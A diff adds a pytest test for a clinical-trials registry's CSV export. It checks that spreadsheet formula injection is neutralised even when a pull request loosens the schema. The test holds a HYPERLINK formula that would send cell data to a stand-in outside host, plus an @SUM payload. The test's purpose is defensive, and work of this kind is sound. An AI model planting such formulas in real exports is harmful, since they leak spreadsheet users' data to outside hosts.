@@ -1,0 +1,77 @@
+"""Pull-request attacks on the generated outputs: a record that passes `trials check` (with the
+pull request's schema, which review alone can judge) and the table, the workbook, the database or
+the site then say what no record holds, run a formula in a spreadsheet, or stop the export.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import re
+from pathlib import Path
+
+from conftest import AS_OF_LINE, IM19_PATH, Trials, add_source, im19_draft, joined, put
+from sle_trials.outputs import export
+
+SOURCE = "seeds/931_formulas.txt"
+
+
+def _row(registry: Path) -> dict[str, str]:
+    text = (registry / "trials.csv").read_text(encoding="utf-8")
+    [row] = [r for r in csv.DictReader(io.StringIO(text, newline="")) if r["nct_id"] == "NCT06513429"]
+    return row
+
+
+# --- the formula guard is the writer's own rule, whatever the schema says ---------------------------
+#
+# The CSV guarded the cells of its text columns only: a cell of a number or boolean column was written
+# as it came. A pull request that changed two lines of the schema (enrollment.count and
+# healthy_volunteers may be text) and added a draft whose count is =HYPERLINK(...) and whose
+# healthy_volunteers is @SUM(...) passed `trials check` (the schema is the pull request's, and the
+# summary names it only as "schema: changed"), and trials.csv held both formulas as they were.
+
+FORMULAS = {
+    "enrollment": ("count", '=HYPERLINK("https://example.invalid/?"&A1,"6")'),
+    "healthy_volunteers": ("healthy_volunteers", "@SUM(1+1)"),
+}
+
+
+def _loosened(registry: Path) -> None:
+    """The schema with enrollment.count and eligibility.healthy_volunteers allowed to be text, and
+    called the curator's words (which no quote binds, E517)."""
+    schema = registry / "schema" / "trial.schema.json"
+    text = schema.read_text(encoding="utf-8")
+    words = r'\1["{}", "string"], "x-curator-words": true'
+    loose = re.sub(r'("count": \{\s*"type": )"integer"', words.format("integer"), text, count=1)
+    loose = re.sub(r'("healthy_volunteers": \{\s*"type": )"boolean"', words.format("boolean"), loose, count=1)
+    assert loose.count('"string"], "x-curator-words": true') == 2, "the schema's shape changed: update the test"
+    schema.write_text(loose, encoding="utf-8")
+
+
+def test_a_formula_in_a_number_or_boolean_column_is_guarded_whatever_the_schema_allows(
+    registry: Path, trials: Trials
+) -> None:
+    _loosened(registry)
+    add_source(
+        registry,
+        SOURCE,
+        "Trial NCT06513429: IM19 CAR-T Cell Therapy in Refractory Systemic Lupus Erythematosus (SLE)\n" + AS_OF_LINE,
+    )
+    count, volunteers = FORMULAS["enrollment"][1], FORMULAS["healthy_volunteers"][1]
+    put(
+        registry,
+        IM19_PATH,
+        joined(
+            im19_draft(SOURCE),
+            f"enrollment:\n  count: {json.dumps(count)}\n"
+            + f"eligibility:\n  healthy_volunteers: {json.dumps(volunteers)}\n",
+        ),
+    )
+    result = trials("csv")
+    assert result.status == 0, result.out + result.err  # the loosened schema takes them: only review can tell
+    row = _row(registry)
+    assert row["enrollment"] == "'" + count and row["healthy_volunteers"] == "'" + volunteers, row
+    assert export.unguard(row["enrollment"]) == count
+    for name, cell in row.items():
+        assert cell[:1] not in "=+-@\t\r\n" or cell == "", (name, cell)
